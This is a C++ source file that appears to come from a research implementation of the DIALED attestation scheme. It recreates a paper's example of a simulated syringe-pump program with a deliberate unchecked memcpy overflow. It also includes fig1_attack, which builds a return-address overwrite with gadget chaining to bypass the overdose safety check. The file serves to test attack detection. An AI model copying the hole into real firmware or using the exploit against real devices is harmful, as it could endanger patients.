@@ -1,0 +1,113 @@
+// Paper Fig. 1: an embedded medical application vulnerable to a
+// control-flow attack. `parse_commands` copies `length` words of a network
+// command into a 5-word local buffer without a bounds check; with length=6
+// the 6th word lands exactly on the function's saved return address (the
+// paper: "the return address can be overwritten with the value of
+// recv_commands[5]"). Redirecting it to `do_actuation` bypasses the
+// `dose < 10` safety check.
+#include "apps/apps.h"
+
+namespace dialed::apps {
+
+namespace {
+
+constexpr const char* source = R"(
+// Fig. 1 (DAC'21 DIALED paper), restructured for the mini-C toolchain:
+// the actuation body is its own function so the attack target is a stable
+// symbol. P3OUT = 25, NET_DATA = 118.
+int dose = 0;
+int rx_buffer[16];
+
+int net_byte() {
+  int b = __mmio_r8(118);   // read FIFO head (idempotent)
+  __mmio_w8(118, 0);        // acknowledge/advance
+  return b;
+}
+
+int net_word() {
+  int lo = net_byte();
+  int hi = net_byte();
+  return lo + (hi << 8);
+}
+
+void do_actuation() {
+  __mmio_w8(25, 1);                 // paper line 5: trigger injection
+  __delay_cycles(dose * 10);        // paper line 6: duration ~ dose
+  __mmio_w8(25, 0);                 // paper line 8: stop
+}
+
+void inject_medicine() {
+  if (dose < 10) {                  // paper line 4: overdose safety check
+    do_actuation();
+  }
+}
+
+int process_commands(int *cmds) {
+  return cmds[0];                   // command word 0 carries the dosage
+}
+
+void parse_commands(int length) {
+  int copy_of_commands[5];
+  memcpy(copy_of_commands, rx_buffer, length * 2);  // paper line 13: no check
+  dose = process_commands(copy_of_commands);
+}
+
+int op(int length) {
+  int i;
+  if (length > 16) { length = 16; }
+  for (i = 0; i < length; i++) {
+    rx_buffer[i] = net_word();      // network input -> I-Log entries
+  }
+  parse_commands(length);
+  inject_medicine();
+  return dose;
+}
+)";
+
+}  // namespace
+
+app_spec fig1_app() {
+  app_spec s;
+  s.name = "Fig1-SyringeOp";
+  s.source = source;
+  s.entry = "op";
+  s.representative_input = fig1_benign(5);
+  return s;
+}
+
+proto::invocation fig1_benign(int dose) {
+  proto::invocation inv;
+  inv.args[0] = 1;  // one command word
+  inv.net_rx = {static_cast<std::uint8_t>(dose), 0};
+  return inv;
+}
+
+proto::invocation fig1_attack(const instr::linked_program& prog, int dose) {
+  // Stack picture inside parse_commands (with S = the op's frame base):
+  //   copy_of_commands[0..4] at S-12..S-3, saved RA at S-2, the op's
+  //   `length` slot at S, its `i` slot at S+2, the op's own RA at S+4.
+  // Eight command words reach S+2. Word 5 redirects parse_commands' return
+  // into do_actuation (bypassing the dose<10 check — the paper's "jump to
+  // line 5"); words 6 and 7 chain do_actuation's return through the op's
+  // final `ret` (at ER_max) twice, so the stack unwinds onto the real
+  // return address and execution exits ER cleanly with EXEC = 1 — only the
+  // control-flow evidence in CF-Log betrays the attack.
+  proto::invocation inv;
+  inv.args[0] = 8;
+  const std::uint16_t target = prog.image.symbol("do_actuation");
+  auto push_word = [&](std::uint16_t w) {
+    inv.net_rx.push_back(static_cast<std::uint8_t>(w & 0xff));
+    inv.net_rx.push_back(static_cast<std::uint8_t>(w >> 8));
+  };
+  push_word(static_cast<std::uint16_t>(dose));  // word 0: the (huge) dose
+  push_word(0);
+  push_word(0);
+  push_word(0);
+  push_word(0);
+  push_word(target);        // word 5: smashes parse_commands' return
+  push_word(prog.er_max);   // word 6: gadget — the op's final `ret`
+  push_word(prog.er_max);   // word 7: gadget again -> pops the real RA
+  return inv;
+}
+
+}  // namespace dialed::apps
